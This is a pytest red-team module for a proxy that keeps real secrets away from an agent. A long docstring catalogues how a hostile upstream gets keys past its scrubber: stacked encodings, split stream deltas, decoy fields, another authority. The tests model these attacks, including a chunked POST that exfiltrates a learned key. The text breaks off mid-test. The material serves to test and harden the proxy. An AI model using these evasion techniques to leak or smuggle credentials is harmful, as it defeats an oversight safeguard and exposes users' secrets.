"""Red team, third pass: the real-value finder after its engine and decoded views were reworked.

Each test is one attack on a real ``sandgate proxy`` (the world of tests/proxy/test_redteam.py:
its hostile upstream, policy and secrets; plus proxies whose policies bind 4 and 40 more secrets to
the hostile host, so its responses are searched by the 64-pattern probes and by the sharded
automaton). A test asserts what the agent must never read; a break is marked ``xfail(strict=True)``
so that its fix turns it into a failure to unmark. A value the proxy cannot replace in place may be
refused (502 ``secret_value_inbound``, or the connection cut): either outcome holds the line.

Breaks (the agent reads a whole real value -- contiguous, or stitched as its client stitches a
token stream -- or an allowed upstream receives one from the agent). Fixed since, their tests
passing: ``longer-than-the-view-hold``, ``shared-value``, ``html-leading-zeros``, ``bom``,
``json-after-whitespace``, ``moved-choice``, ``responses-api``, ``decoy-paths``,
``json-newline-wrapped-base64``, ``json-utf16``; ``declared-charset``, ``other-escapes`` and
``whitespace-wrapped-base64`` but for spaces (each now a form or a decoded view, and a row of
tests/proxy/core/test_scrub.py's property test); ``sniffer`` (a body is read as an event stream
from its first ``data:`` line on); line-delimited JSON under a JSON label (a body is read as a
token stream from a line that is a JSON document with another line after it);
``websocket-json-deltas`` (text messages are held whole and stitched by path);
``another-authority`` on another port (a response is scrubbed for the secrets bound to its host on
any port). Still open, each an expected failure (and listed in the README): ``another-authority``
under another name, base64 broken by spaces.

- ``longer-than-the-view-hold`` (invariants 1 and 2; the stream hold-back): the key as HTML
  references under percent-encoding (``%26%23x000072%3B``: 30 bytes a character) or under JSON
  escapes (``\\u0026\\u0023\\u0078\\u0037\\u0032\\u003b``: 36), two stacked decodings the views
  claim, is refused in a Content-Length body -- and forwarded whole when it is streamed in 64-byte
  pieces: a chunked response body, the fragments of one WebSocket message, the deltas of an SSE
  stream, and (outbound) a chunked request body to another allowed host. Each stream re-checks
  only the last ``6 * max_len`` bytes it sent (plus what it holds): the value's first characters
  have left that window when its last byte arrives, so no view ever holds it whole.
- ``another-authority``: the bound host keeps the key it was sent and serves it back under a
  second name the policy allows (same server, no secret bound to that name), or on its own port
  80 (the secret is bound to :443). Responses are only scrubbed for the host:port a secret is
  bound to, so it comes back plain.
- ``shared-value``: two secrets with one real value, bound to different hosts. The finder keeps
  one pattern per form, named after the first secret; the second secret's host gets a finder of
  the patterns named after secrets bound there -- none -- so its echo of the value comes back
  plain.
- ``html-leading-zeros``: HTML numeric character references with more digits than the view's
  pattern reads (``&#x00000072;``, ``&#000000114;``); browsers and ``html.unescape`` accept any
  number of leading zeros.
- ``json-newline-wrapped-base64``: base64 wrapped at 64 characters inside a JSON string, the line
  breaks JSON-escaped (``\\n`` or ``\\u000a``) -- a PEM or MIME blob in any JSON API. The JSON view
  decodes only ``\\u0020``-``\\u007f`` and ``\\/``, so the wrapped-base64 view never sees a line
  break.
- ``json-utf16``: UTF-16LE text carried in a JSON string with its NULs escaped (``\\u0000``).
- ``sniffer``: a token stream labelled ``application/json`` whose first line is not an SSE field
  (``ok``, ``id``, ``{}``) is scrubbed as a plain body; SSE clients skip the line and stitch the
  deltas, the key split over two events. Likewise line-delimited JSON under ``application/json``
  (only SSE is sniffed) -- this one borders on the accepted "split between two documents".
- ``bom``: a ``text/event-stream`` that begins with a UTF-8 BOM (which SSE parsers ignore): the
  scrubber does not read the first event's ``data:`` line, so a key split between it and the next
  event is never seen whole; the client stitches it.
- ``json-after-whitespace``: SSE ``data:  {...}`` or ``data:\\t{...}``: the payload is read as
  JSON only when its first byte is ``{`` or ``[``, so the raw texts are stitched, JSON syntax
  between the halves; the client json-loads (whitespace is fine) and stitches the deltas.
- ``moved-choice``: OpenAI ``n=2`` streaming where choice 0 moves from array position 0 to 1:
  the tagged path names the ``index`` and the position, so no stream holds both halves of the
  key; the SDK accumulates by ``index``.
- ``responses-api``: OpenAI Responses API deltas of two outputs interleaved, told apart by
  ``output_index``/``item_id`` (no ``index`` field): the ``.delta`` stream reads
  ``<half>Hello<half>``; the client accumulates per output.
- ``decoy-paths``: an SSE stream whose first event has 64 decoy string fields fills the
  scrubber's per-path streams; every later path shares one stream, so the two halves of the key in
  ``.choices[0].delta.content`` are read with a ``.pad`` field's text between them, and the
  client's stitching of ``delta.content`` is the key.
- ``websocket-json-deltas``: a JSON event stream over WebSocket (OpenAI Realtime's
  ``response.text.delta``) with the key split over two messages: the messages are scrubbed as
  one byte stream, where JSON syntax sits between the halves; nothing stitches the deltas by path
  as the SSE scrubber does, and the client does.
- ``declared-charset``: a ``text/plain`` body in a charset the Content-Type names, decoded by the
  agent's client on its own (``requests``' ``.text``): EBCDIC (``cp500``), UTF-7 with its base64
  runs.
- ``whitespace-wrapped-base64``: base64 broken by whitespace other than a bare LF/CRLF after 40+
  characters: indented continuation lines (YAML block scalars, folded headers), CR-only, spaces;
  ``base64.b64decode`` skips all of them.
- ``other-escapes``: escape syntaxes no view decodes: JavaScript ``\\xHH``, quoted-printable
  ``=HH``, base64 of the UTF-16LE value (PowerShell ``-EncodedCommand``, NTLM).
- These last three were encodings no form or view claimed. Now: EBCDIC is a view of a body that
  reads as EBCDIC text; UTF-7 is a form (a value in one base64 run, or as Python's encoder writes
  it) and a view (short runs between direct characters); ``\\xHH``, ``\\u{HH}``, ``\\U000000HH`` and
  octal escapes join JSON's in one view; quoted-printable is a view (soft line breaks removed);
  the value's UTF-16 in base64 is a form; base64 lines broken at LF, CRLF or a lone CR, with
  indentation after the break, are joined. Base64 broken by spaces is not: a view anchored at
  every space of a text costs ~1 ms per 64 KiB.

Attempts that held (each a passing test at the end of this module):

- The doubly escaped key of the first break in a Content-Length response body and in a
  Content-Length request body: refused (``secret_value_inbound`` / ``secret_value_outbound``).
- A response from a host bound to 43 secrets (~770 patterns: the sharded automaton) and from one
  bound to 7 (~126: the 64-pattern probes), with the value cut by a chunk boundary at every one of
  its offsets, in mixed case: replaced or refused, never forwarded.
- The same proxies, base64 wrapped at exactly 40, 64 and 76 characters with LF or CRLF, the value's
  encoding crossing a line end: refused.
- A 64 KiB base64 body (the find-loop engine for large encoded input, when the finder picked it)
  with the value's base64 form in its middle, streamed in 1000-byte chunks: replaced.
- Response header values holding odd bytes around a value (0x01 the head search joins fields with,
  TAB, obs-text 0xFF): replaced or refused.
- A filler secret's value (one the agent never sent) echoed by the host it is bound to, among 43:
  replaced.
- Two 103 Early Hints heads, the key percent-encoded in a Link field and mixed-case in a field
  name: replaced.
- An SSE event nested 50,000 deep (``json.loads`` raises RecursionError, not ValueError) before
  a split key: the stream is cut, nothing after it is forwarded, the proxy serves the next request.
- Not written as tests, checked on the pure scrubbers first: Finder.hits against ``scan`` for 1,
  4, 6, 30, 40 secrets on text, hex and base64 of 10 B-70 KB with a form inside (1000 cases);
  BodyScrubber with a form cut at every offset, in mixed case; EventScrubber with the value split
  over two events at every offset (plain, mixed case, upper, percent-encoded) for 1, 5 and 41
  secrets: the agent never had more than 2 characters.
"""

from __future__ import annotations

import base64
import html
import json
import quopri
import re
import secrets
import socket
import urllib.parse
from collections.abc import Callable
from pathlib import Path

import pytest
import trustme

from tests.conftest import needs_root
from tests.proxy import test_redteam as world
from tests.proxy.test_redteam import (
    HOST,
    HOSTILE2_NAME,
    HOSTILE_NAME,
    POLICY,
    N,
    _chunks,
    _respond,
    env,
    fetch,
    get,
    recv_all,
    tls_to,
    ws_agent_reads,
    ws_handshake,
)
from tests.proxy.test_redteam2 import body_of, refused
from tests.support.hostile import HostileServer, Request, Wire, ws_fragments, ws_frame
from tests.support.proxyproc import ProxyProcess

pytestmark = needs_root

hostile_ca, hostile, hostile_plain, rt = world.hostile_ca, world.hostile, world.hostile_plain, world.rt


def deltas(stream: str) -> str:
    """What an SSE client of a chat API stitches together: the first choice's delta content of
    every ``data: {...}`` event, in order."""
    return "".join(
        json.loads(ln[6:])["choices"][0]["delta"]["content"] for ln in stream.splitlines() if ln.startswith("data: {")
    )


def _fillers(count: int) -> tuple[str, dict[str, str], list[str]]:
    """``count`` more secrets bound to the hostile host: policy text, environment, real values."""
    values = [f"rtREALfill{i}x" + secrets.token_urlsafe(24) for i in range(count)]
    text = "".join(
        f"    - name: rt3fill{i}\n      placeholder: rt3-PH-{N}-{i:03d}\n      source: {{env: RT3_FILL_{i}}}\n"
        f"      hosts: [{HOSTILE_NAME}]\n"
        for i in range(count)
    )
    return text, {f"RT3_FILL_{i}": v for i, v in enumerate(values)}, values


@pytest.fixture(scope="module", params=[4, 40], ids=["probes-7-secrets", "shards-43-secrets"])
def crowded(
    request: pytest.FixtureRequest,
    make_proxy: Callable[..., ProxyProcess],
    hostile: HostileServer,
    hostile_ca: tuple[trustme.CA, Path],
) -> ProxyProcess:
    """A proxy whose policy binds the hostile host's 3 secrets and ``param`` more to it."""
    text, fill_env, values = _fillers(request.param)
    p = make_proxy(POLICY + text, "--upstream-ca", str(hostile_ca[1]), env={**env(), **fill_env})
    p.fill_values = values  # type: ignore[attr-defined]
    return p


def is_cut_or_refused(raw: bytes) -> bool:
    """Refused before the head (502), or the head sent and the body cut (no final chunk)."""
    if refused(raw):
        return True
    head, _, rest = raw.partition(b"\r\n\r\n")
    return b"transfer-encoding: chunked" in head.lower() and not rest.endswith(b"0\r\n\r\n")


def scramble(text: str) -> str:
    return "".join(c.upper() if i % 3 == 1 else c.lower() if i % 3 == 2 else c for i, c in enumerate(text))


# == breaks =======================================================================================


@pytest.mark.parametrize(
    "via",
    [
        pytest.param(
            "other-name",
            marks=pytest.mark.xfail(
                strict=True, reason="responses are scrubbed only for the host a secret is bound to"
            ),
        ),
        "other-port",
    ],
)
def test_rt3_key_stored_by_the_bound_host_comes_back_under_another_authority(
    rt: ProxyProcess, hostile: HostileServer, hostile_plain: HostileServer, via: str
) -> None:
    """The bound host keeps the Authorization it was sent (a request log, a session, a key
    inspector) and serves it under another authority the policy allows: ``hostile2`` (same
    address, same server, nothing bound to it -- an API host and its www/CDN name) or its own
    port 80. Invariant 1 (any byte the sidecar sends back): the response from the unbound
    authority is forwarded unscrubbed, the real key plain in it."""
    stored: list[str] = []

    @hostile.on(f"/rt3/store-{via}")
    async def _(req: Request, w: Wire) -> None:
        stored.append(req.token)
        await w.send(_respond("", b"stored"))

    async def read(req: Request, w: Wire) -> None:
        await w.send(_respond("Content-Type: text/plain\r\n", f"last key seen: {stored[-1]}".encode()))

    assert fetch(rt, f"/rt3/store-{via}").startswith(b"HTTP/1.1 200")
    assert stored == [HOST.real]  # the swap happened: the host holds the real key
    if via == "other-name":
        hostile.on("/rt3/read")(read)
        s = tls_to(rt, HOSTILE2_NAME)
        s.sendall(get("/rt3/read", host=HOSTILE2_NAME))
    else:
        hostile_plain.on("/rt3/read")(read)
        s = socket.create_connection(("127.0.0.1", rt.port), timeout=10)
        s.sendall(get(f"http://{HOSTILE_NAME}/rt3/read", host=HOSTILE_NAME))
    raw = recv_all(s)
    assert raw.startswith(b"HTTP/1.1 200")
    assert HOST.real.encode() not in raw, "the real key came back through another authority of the host"


SHARED = "rtREALshared" + secrets.token_hex(16)


@pytest.fixture(scope="module")
def twins(
    make_proxy: Callable[..., ProxyProcess], hostile: HostileServer, hostile_ca: tuple[trustme.CA, Path]
) -> ProxyProcess:
    """One real value under two secret names: the first bound to echo.example.com, the second to
    the hostile host (one organisation key registered for two services)."""
    policy = f"""
apiVersion: sandgate.dev/v1alpha1
kind: EgressPolicy
metadata: {{name: redteam3-twins}}
spec:
  allow:
    - host: echo.example.com
    - host: {HOSTILE_NAME}
  secrets:
    - name: twin-a
      placeholder: rt3-PH-{N}-twin-a
      source: {{env: RT3_TWIN_A}}
      hosts: [echo.example.com]
    - name: twin-b
      placeholder: rt3-PH-{N}-twin-b
      source: {{env: RT3_TWIN_B}}
      hosts: [{HOSTILE_NAME}]
"""
    return make_proxy(policy, "--upstream-ca", str(hostile_ca[1]), env={"RT3_TWIN_A": SHARED, "RT3_TWIN_B": SHARED})


def test_rt3_value_shared_by_two_secrets_is_scrubbed_for_the_second(
    twins: ProxyProcess, hostile: HostileServer
) -> None:
    """Two secrets with one real value, bound to different hosts. The finder keeps one pattern per
    form, named after the first secret; the finder for the second secret's host was built from the
    patterns named after secrets bound there -- none, so the echo went out unscrubbed (fixed: it is
    built from the bound secrets' values). Invariant 1."""

    @hostile.on("/rt3/twin")
    async def _(req: Request, w: Wire) -> None:
        await w.send(_respond("Content-Type: text/plain\r\n", f"invalid key {req.token}".encode()))

    s = tls_to(twins, HOSTILE_NAME)
    s.sendall(get("/rt3/twin", auth=f"Bearer rt3-PH-{N}-twin-b"))
    raw = recv_all(s)
    assert [r.token for r in hostile.requests if r.path == "/rt3/twin"] == [SHARED]  # swapped
    assert raw.startswith(b"HTTP/1.1")
    assert SHARED.encode() not in raw, "the echoed value came back unscrubbed"


@pytest.mark.parametrize("radix", ["hex", "dec"])
def test_rt3_html_references_with_leading_zeros(rt: ProxyProcess, hostile: HostileServer, radix: str) -> None:
    """Numeric character references padded with zeros (``&#x00000072;``, ``&#000000114;``), as
    fixed-width escapers write them. Invariant 1 (HTML character references): the view's pattern
    stops at 6 hex / 7 decimal digits, reads a reference to U+0000 and leaves it; browsers and
    ``html.unescape`` take any number of digits. The agent unescapes: the real key."""
    path = f"/rt3/html-zeros-{radix}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        fmt = "&#x{:08x};" if radix == "hex" else "&#{:09d};"
        refs = "".join(fmt.format(ord(c)) for c in req.token)
        await w.send(_respond("Content-Type: text/html\r\n", f"<p>Bad key: {refs}</p>".encode()))

    raw = fetch(rt, path)
    if refused(raw):
        return
    assert raw.startswith(b"HTTP/1.1 200")
    assert HOST.real not in html.unescape(body_of(raw).decode("latin-1"))


@pytest.mark.parametrize("newline", ["\\n", "\\u000a", "\\r\\n"], ids=["n", "u000a", "r-n"])
def test_rt3_wrapped_base64_inside_a_json_string(rt: ProxyProcess, hostile: HostileServer, newline: str) -> None:
    """A stored document returned base64-encoded and wrapped at 64 characters (PEM), inside a JSON
    string, so its line breaks are JSON escapes. Invariant 1 (JSON escapes under wrapped base64: two
    decodings, both of them views the scrubbers claim): the wrapped-base64 view needs a raw LF, the
    JSON view does not make one. The agent json-loads and b64decodes: the real key."""
    path = "/rt3/json-pem-" + re.sub(r"\W", "", newline)

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        blob = base64.b64encode(b"stored credential: " + req.token.encode())
        wrapped = newline.join(blob[i : i + 64].decode() for i in range(0, len(blob), 64))
        await w.send(_respond("Content-Type: application/json\r\n", f'{{"document": "{wrapped}"}}'.encode()))

    raw = fetch(rt, path)
    if refused(raw):
        return
    assert raw.startswith(b"HTTP/1.1 200")
    assert HOST.real.encode() not in base64.b64decode(json.loads(body_of(raw))["document"])


def test_rt3_utf16_inside_a_json_string(rt: ProxyProcess, hostile: HostileServer) -> None:
    """UTF-16LE text (a Windows service's log line) carried in a JSON string: each NUL is
    ``\\u0000``. Invariant 1 (JSON escapes under UTF-16, two claimed views): the JSON view leaves
    ``\\u0000`` alone. The agent json-loads and drops the NULs (decodes UTF-16): the real key."""

    @hostile.on("/rt3/json-utf16")
    async def _(req: Request, w: Wire) -> None:
        text = f"key: {req.token}".encode("utf-16-le").decode("latin-1")
        await w.send(_respond("Content-Type: application/json\r\n", json.dumps({"log": text}).encode()))

    raw = fetch(rt, "/rt3/json-utf16")
    if refused(raw):
        return
    assert raw.startswith(b"HTTP/1.1 200")
    read = json.loads(body_of(raw))["log"].encode("latin-1").decode("utf-16-le")
    assert HOST.real not in read


@pytest.mark.parametrize("charset", ["cp500", "utf-7"])
def test_rt3_body_in_a_declared_charset(rt: ProxyProcess, hostile: HostileServer, charset: str) -> None:
    """A text body in the charset its Content-Type names: EBCDIC (``cp500``, mainframe gateways) or
    UTF-7 with every character in its base64 runs. Invariant 1 (any Content-Type: UTF-16 declared
    this way is caught; these are not, and a fail-closed proxy would refuse a charset it cannot
    read). The agent's client decodes the declared charset by itself (``requests``' ``.text``)."""
    path = f"/rt3/charset-{charset}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        text = f"key: {req.token}"
        if charset == "utf-7":  # every character in a base64 run (a valid, if verbose, UTF-7)
            body = b"+" + base64.b64encode(text.encode("utf-16-be")).rstrip(b"=") + b"-"
        else:
            body = text.encode(charset)
        await w.send(_respond(f"Content-Type: text/plain; charset={charset}\r\n", body))

    raw = fetch(rt, path)
    if refused(raw):
        return
    assert raw.startswith(b"HTTP/1.1 200")
    assert HOST.real not in body_of(raw).decode(charset, "replace")


@pytest.mark.parametrize(
    "sep",
    [
        pytest.param("\n  ", id="indented"),
        pytest.param("\r", id="cr-only"),
        pytest.param(
            " ",
            id="spaces",
            marks=pytest.mark.xfail(strict=True, reason="the wrapped-base64 view joins runs at line ends only"),
        ),
        pytest.param("\n\t", id="lf-tab"),
    ],
)
def test_rt3_base64_broken_by_other_whitespace(rt: ProxyProcess, hostile: HostileServer, sep: str) -> None:
    """Base64 wrapped at 64 characters with indented continuation lines (a YAML block scalar, a
    folded header), or broken by a lone CR, spaces, LF+TAB. Invariant 1 (wrapped base64):
    ``base64.b64decode`` skips every one of these; the view only joins lines at a bare LF or CRLF.
    The agent decodes: the real key."""
    path = "/rt3/ws-b64-" + str(ord(sep[-1]))

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        blob = base64.b64encode(b"stored credential: " + req.token.encode()).decode()
        wrapped = sep.join(blob[i : i + 64] for i in range(0, len(blob), 64))
        await w.send(_respond("Content-Type: text/plain\r\n", f"credential: |\n  {wrapped}\n".encode()))

    raw = fetch(rt, path)
    if refused(raw):
        return
    assert raw.startswith(b"HTTP/1.1 200")
    blob = body_of(raw).decode("latin-1").split("|", 1)[1]
    assert HOST.real.encode() not in base64.b64decode(re.sub(r"\s", "", blob))


def _js_hex(text: str) -> bytes:
    return "".join(f"\\x{ord(c):02x}" for c in text).encode()


def _qp_all(text: str) -> bytes:
    return "".join(f"={ord(c):02X}" for c in text).encode()


def _b64_utf16(text: str) -> bytes:
    return base64.b64encode(text.encode("utf-16-le"))


OTHER_ESCAPES: dict[str, tuple[Callable[[str], bytes], Callable[[bytes], str]]] = {
    "js-hex": (_js_hex, lambda b: b.decode("unicode_escape")),
    "quoted-printable": (_qp_all, lambda b: quopri.decodestring(b).decode("latin-1")),
    "base64-utf16le": (_b64_utf16, lambda b: base64.b64decode(b).decode("utf-16-le", "replace")),
}


@pytest.mark.parametrize("kind", list(OTHER_ESCAPES))
def test_rt3_other_escape_syntaxes(rt: ProxyProcess, hostile: HostileServer, kind: str) -> None:
    """The key in an escape syntax of another common format: a JavaScript string literal
    (``\\x72\\x74``), a quoted-printable MIME part (``=72=74``), base64 of its UTF-16LE text
    (PowerShell ``-EncodedCommand``, NTLM). Invariant 1 (any encoding a client decodes): no form or
    view covers these. The agent decodes: the real key."""
    encode, decode = OTHER_ESCAPES[kind]
    path = f"/rt3/escape-{kind}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(_respond("Content-Type: text/plain\r\n", encode(req.token)))

    raw = fetch(rt, path)
    if refused(raw):
        return
    assert raw.startswith(b"HTTP/1.1 200")
    assert HOST.real not in decode(body_of(raw))


def _pct_over_html(text: str) -> bytes:
    return "".join(f"%{b:02X}" for b in "".join(f"&#x{ord(c):06x};" for c in text).encode()).encode()


def _json_over_html(text: str) -> bytes:
    return "".join(f"\\u{b:04x}" for b in "".join(f"&#x{ord(c):x};" for c in text).encode()).encode()


LONG_ESCAPES: dict[str, tuple[Callable[[str], bytes], Callable[[bytes], str]]] = {
    "pct-over-html": (_pct_over_html, lambda b: html.unescape(urllib.parse.unquote(b.decode("latin-1")))),
    "json-over-html": (_json_over_html, lambda b: html.unescape(_json_unescape_lenient(b))),
}


def _json_unescape_lenient(b: bytes) -> str:
    """What an agent reads of JSON escapes, even of a message cut short inside one."""
    return re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), b.decode("latin-1"))


@pytest.mark.parametrize("kind", list(LONG_ESCAPES))
def test_rt3_streamed_value_longer_than_the_view_hold(rt: ProxyProcess, hostile: HostileServer, kind: str) -> None:
    """The key as HTML references, percent-encoded (``%26%23x000072%3B`` all escaped: 30 bytes a
    character) or JSON-escaped (``\\u0026\\u0023\\u0078...``: 36), in a chunked body sent in 64-byte
    chunks.
    Both are two stacked decodings the views claim, and a whole body is refused. Streamed, the
    scrubber re-checks only the last ``6 * max_len`` bytes sent plus what it holds: by the time the
    value's last byte arrives, its first characters have left that window, no view holds it whole,
    and every byte goes out. The agent decodes the whole value (invariant 1)."""
    encode, decode = LONG_ESCAPES[kind]
    path = f"/rt3/long-escape-{kind}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        body = b"key=" + encode(req.token) + b";"
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n")
        for i in range(0, len(body), 64):
            await w.send(_chunks(body[i : i + 64])[:-5])
        await w.send(b"0\r\n\r\n")

    raw = fetch(rt, path)
    if is_cut_or_refused(raw):
        return
    assert raw.startswith(b"HTTP/1.1 200")
    assert HOST.real not in decode(body_of(raw).removeprefix(b"key=").removesuffix(b";"))


@pytest.mark.parametrize("kind", list(LONG_ESCAPES))
def test_rt3_websocket_message_longer_than_the_view_hold(rt: ProxyProcess, hostile: HostileServer, kind: str) -> None:
    """As for a streamed body: the key in one text message, as doubly escaped HTML references, the
    message sent in 64-byte fragments (one message: no boundary the scrubber may refuse at). The
    fragments go out as they come and the value is never seen whole. Invariant 1 (WebSocket)."""
    encode, decode = LONG_ESCAPES[kind]
    path = f"/rt3/ws-long-{kind}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        payload = b"key=" + encode(req.token) + b";"
        await w.send(ws_handshake(req))
        for frame in ws_fragments(0x1, payload, 64):
            await w.send(frame)
        await w.send(ws_frame(0x8, b"\x03\xe8"), pause=0.05)
        w.keep = False

    head, frames = ws_agent_reads(rt, path)
    assert head.startswith(b"HTTP/1.1 101")
    message = b"".join(p for _, op, p in frames if op in (0x0, 0x1))
    assert HOST.real not in decode(message.removeprefix(b"key=").removesuffix(b";"))


def test_rt3_learned_value_leaves_in_a_streamed_request_body(rt: ProxyProcess, hostile: HostileServer) -> None:
    """The way out for a value the agent learned: a chunked request body to an allowed host that no
    secret is bound to, the real key as JSON-escaped HTML references in 64-byte chunks. Invariant 2
    (a real value the agent sends is ``secret_value_outbound``): the body guard has the same window
    as the response stream, and the value reaches the upstream."""
    body = b'{"note": "' + _json_over_html(HOST.real) + b'"}'
    s = tls_to(rt, HOSTILE2_NAME)
    s.sendall(
        f"POST /rt3/exfil HTTP/1.1\r\nHost: {HOSTILE2_NAME}\r\nContent-Type: application/json\r\n"
        "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n".encode()
        + _chunks(*(body[i : i + 64] for i in range(0, len(body), 64)))
    )
    raw = recv_all(s)
    arrived = [r.body for r in hostile.requests if r.path == "/rt3/exfil"]
    assert not arrived or all(HOST.real not in html.unescape(json.loads(b)["note"]) for b in arrived), raw[:200]


@pytest.mark.parametrize("kind", list(LONG_ESCAPES))
def test_rt3_sse_deltas_longer_than_the_view_hold(rt: ProxyProcess, hostile: HostileServer, kind: str) -> None:
    """A token stream whose deltas, stitched, are the doubly escaped key, 64 bytes an event. A
    value split across events is refused before the agent has more than two of its characters --
    when the scrubber sees it whole: here its start has left the path's history before its end
    arrives. Invariant 1 (SSE): the client stitches and decodes the whole key."""
    encode, decode = LONG_ESCAPES[kind]
    path = f"/rt3/sse-long-{kind}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        text = encode(req.token).decode()
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        for i in range(0, len(text), 64):
            event = b"data: " + json.dumps({"choices": [{"delta": {"content": text[i : i + 64]}}]}).encode()
            await w.send(_chunks(event + b"\n\n")[:-5])
        await w.send(_chunks(b"data: [DONE]\n\n"))

    raw = fetch(rt, path)
    assert raw.startswith(b"HTTP/1.1 200")
    stitched = deltas(body_of(raw).decode())
    assert HOST.real not in decode(stitched.encode())


@pytest.mark.parametrize("first", ["ok", "id", "{}"])
def test_rt3_sse_split_behind_a_first_line_the_sniffer_does_not_know(
    rt: ProxyProcess, hostile: HostileServer, first: str
) -> None:
    """A token stream labelled ``application/json`` whose first line is not an SSE field (``ok``,
    ``id`` without a colon, ``{}``): the sniffer reads a plain body, so the deltas are not stitched.
    An SSE client takes the odd line as a field it does not know and skips it (the WHATWG parser and
    the OpenAI SDK both do), then stitches the deltas: the key, split over two events. Invariant 1
    (SSE, any Content-Type)."""
    path = f"/rt3/sse-sniff-{first.strip('{}') or 'braces'}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
        await w.send(_chunks(first.encode() + b"\n")[:-5])
        for text in ("Your key: ", t[:20], t[20:]):
            event = b"data: " + json.dumps({"choices": [{"delta": {"content": text}}]}).encode() + b"\n\n"
            await w.send(_chunks(event)[:-5], pause=0.02)
        await w.send(_chunks(b"data: [DONE]\n\n"))

    raw = fetch(rt, path)
    assert raw.startswith(b"HTTP/1.1 200")
    text = deltas(body_of(raw).decode())
    assert HOST.real not in text


def test_rt3_ndjson_split_under_a_json_label(rt: ProxyProcess, hostile: HostileServer) -> None:
    """A line-delimited JSON token stream (Ollama's shape) labelled ``application/json``: the key
    split over two lines. Labelled ``application/x-ndjson`` it is stitched per path and refused;
    under this label the sniffer (SSE only) reads a plain body. The agent's client reads line by
    line and stitches ``.response``. Invariant 1 (token streams, any Content-Type) -- bordering on
    the accepted limit of one value split across two documents, which the labelled case refuses."""

    @hostile.on("/rt3/ndjson-json")
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
        for text in ("Your key: ", t[:20], t[20:]):
            await w.send(_chunks(json.dumps({"response": text, "done": False}).encode() + b"\n")[:-5], pause=0.02)
        await w.send(_chunks(b'{"response": "", "done": true}\n'))

    raw = fetch(rt, "/rt3/ndjson-json")
    assert raw.startswith(b"HTTP/1.1 200")
    text = "".join(json.loads(ln)["response"] for ln in body_of(raw).decode().splitlines() if ln.startswith("{"))
    assert HOST.real not in text


def test_rt3_sse_split_after_64_decoy_paths(rt: ProxyProcess, hostile: HostileServer) -> None:
    """A token stream that first sends one event with 64 decoy string fields: the scrubber's
    per-path streams are full, so every later path is checked as one shared stream ``*``. Then the
    key split over two events of ``.choices[0].delta.content``, each event also carrying a new
    ``.pad`` field: the shared stream reads ``<half>x<half>x``, no value; the client stitches
    ``delta.content`` (what the OpenAI SDK does): the key. Invariant 1 (SSE, split across events;
    the accepted limit is two characters)."""

    @hostile.on("/rt3/sse-decoys")
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        await w.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        events: list[object] = [{f"decoy{i}": "a" for i in range(64)}]
        events += [{"choices": [{"delta": {"content": text}}], "pad": "x"} for text in ("Your key: ", t[:20], t[20:])]
        for doc in events:
            await w.send(_chunks(b"data: " + json.dumps(doc).encode() + b"\n\n")[:-5], pause=0.02)
        await w.send(_chunks(b"data: [DONE]\n\n"))

    raw = fetch(rt, "/rt3/sse-decoys")
    assert raw.startswith(b"HTTP/1.1 200")
    text = "".join(
        json.loads(ln[6:]).get("choices", [{}])[0].get("delta", {}).get("content", "")
        for ln in body_of(raw).decode().splitlines()
        if ln.startswith("data: {")
    )
    assert HOST.real not in text


def test_rt3_websocket_json_deltas_split_a_value(rt: ProxyProcess, hostile: HostileServer) -> None:
    """A JSON event stream over WebSocket (OpenAI's Realtime API: ``{"type": "response.text.delta",
    "delta": ...}``), the key split over two delta messages. The scrubber reads the messages as one
    byte stream, where JSON syntax sits between the halves, so nothing is split "across messages"
    for it to refuse; the client stitches the deltas, as SSE clients do (and SSE is stitched by
    path). Invariant 1 (WebSocket messages, a value split across two)."""

    @hostile.on("/rt3/ws-json-deltas")
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        await w.send(ws_handshake(req))
        for text in ("Your key: ", t[:20], t[20:]):
            doc = {"type": "response.text.delta", "delta": text}
            await w.send(ws_frame(0x1, json.dumps(doc).encode()), pause=0.02)
        await w.send(ws_frame(0x8, b"\x03\xe8"), pause=0.05)
        w.keep = False

    head, frames = ws_agent_reads(rt, "/rt3/ws-json-deltas")
    assert head.startswith(b"HTTP/1.1 101")
    text = "".join(json.loads(p)["delta"] for _, op, p in frames if op == 0x1)
    assert HOST.real not in text


def ws_messages(frames: list[tuple[bool, int, bytes]]) -> list[tuple[int, bytes]]:
    """(opcode, payload) of each data message the agent read, its fragments joined; then each
    control frame as it came."""
    out: list[tuple[int, bytes]] = []
    parts: list[bytes] = []
    opcode = 0
    for fin, op, payload in frames:
        if op >= 0x8:
            out.append((op, payload))
            continue
        opcode = op or opcode
        parts.append(payload)
        if fin:
            out.append((opcode, b"".join(parts)))
            parts = []
    return out


def test_rt3_websocket_delta_that_may_begin_a_value_waits_for_the_next_and_goes_on(
    rt: ProxyProcess, hostile: HostileServer
) -> None:
    """A delta message whose text ends with what could begin the key is held until the next
    message on its path shows the key does not follow; then both go on, in order, with a binary
    message that came between them, and the close. (What stitching must not break.)"""
    start = HOST.real[:8]

    @hostile.on("/rt3/ws-held-delta")
    async def _(req: Request, w: Wire) -> None:
        await w.send(ws_handshake(req))
